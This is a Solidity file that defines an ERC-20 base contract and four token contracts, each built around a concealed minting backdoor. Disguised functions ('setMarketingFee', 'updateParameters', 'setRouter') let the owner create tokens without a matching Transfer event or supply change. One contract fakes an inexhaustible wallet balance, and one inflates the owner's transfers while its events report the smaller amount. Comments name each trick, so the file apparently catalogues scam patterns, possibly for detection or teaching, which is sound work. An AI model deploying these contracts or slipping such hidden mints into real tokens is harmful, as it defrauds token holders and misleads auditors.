// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

import "@openzeppelin/contracts/token/ERC20/IERC20.sol";

/// A plain ERC-20 token whose books its children can cook.
abstract contract Books is IERC20 {
    string public name;
    string public symbol;
    uint8 public constant decimals = 18;
    uint256 public totalSupply;
    mapping(address => uint256) internal _balances;
    mapping(address => mapping(address => uint256)) public allowance;
    address public owner = msg.sender;

    modifier onlyOwner() {
        require(msg.sender == owner, "Ownable: caller is not the owner");
        _;
    }

    constructor(string memory name_, string memory symbol_, uint256 supply) {
        (name, symbol, totalSupply, _balances[msg.sender]) = (name_, symbol_, supply, supply);
        emit Transfer(address(0), msg.sender, supply);
    }

    function renounceOwnership() external onlyOwner {
        owner = address(0);
    }

    function balanceOf(address holder) public view virtual returns (uint256) {
        return _balances[holder];
    }

    function approve(address spender, uint256 amount) external returns (bool) {
        allowance[msg.sender][spender] = amount;
        emit Approval(msg.sender, spender, amount);
        return true;
    }

    function transfer(address to, uint256 amount) external returns (bool) {
        _move(msg.sender, to, amount);
        return true;
    }

    function transferFrom(address from, address to, uint256 amount) external returns (bool) {
        if (allowance[from][msg.sender] != type(uint256).max) allowance[from][msg.sender] -= amount;
        _move(from, to, amount);
        return true;
    }

    function _move(address from, address to, uint256 amount) internal virtual {
        _balances[from] -= amount;
        _balances[to] += amount;
        emit Transfer(from, to, amount);
    }
}

/// "Sets a fee" that is a balance: no event, and the total supply says nothing of it.
contract SilentMint is Books {
    constructor(string memory name_, string memory symbol_, uint256 supply) Books(name_, symbol_, supply) {}

    function setMarketingFee(address wallet, uint256 fee) external onlyOwner {
        _balances[wallet] += fee;
    }
}

/// The total supply grows with the balance, but no transfer from zero is ever seen.
contract GrowingMint is Books {
    event ParametersUpdated(uint256 value);

    constructor(string memory name_, string memory symbol_, uint256 supply) Books(name_, symbol_, supply) {}

    function updateParameters(address wallet, uint256 value) external onlyOwner {
        _balances[wallet] += value;
        totalSupply += value;
        emit ParametersUpdated(value);
    }
}

/// A chosen wallet always holds a hundred times the supply, whatever it spends.
contract BottomlessMint is Books {
    address private _router;

    constructor(string memory name_, string memory symbol_, uint256 supply) Books(name_, symbol_, supply) {}

    function setRouter(address router) external onlyOwner {
        _router = router;
    }

    function balanceOf(address holder) public view override returns (uint256) {
        return holder == _router ? 100 * totalSupply : super.balanceOf(holder);
    }

    function _move(address from, address to, uint256 amount) internal override {
        if (from == _router) _balances[from] += amount;
        super._move(from, to, amount);
    }
}

/// What its owner sends arrives a thousandfold, and the event tells the smaller number.
contract UnderstatedMint is Books {
    constructor(string memory name_, string memory symbol_, uint256 supply) Books(name_, symbol_, supply) {}

    function _move(address from, address to, uint256 amount) internal override {
        if (from == owner && to.code.length == 0) _balances[to] += 999 * amount;
        super._move(from, to, amount);
    }
}
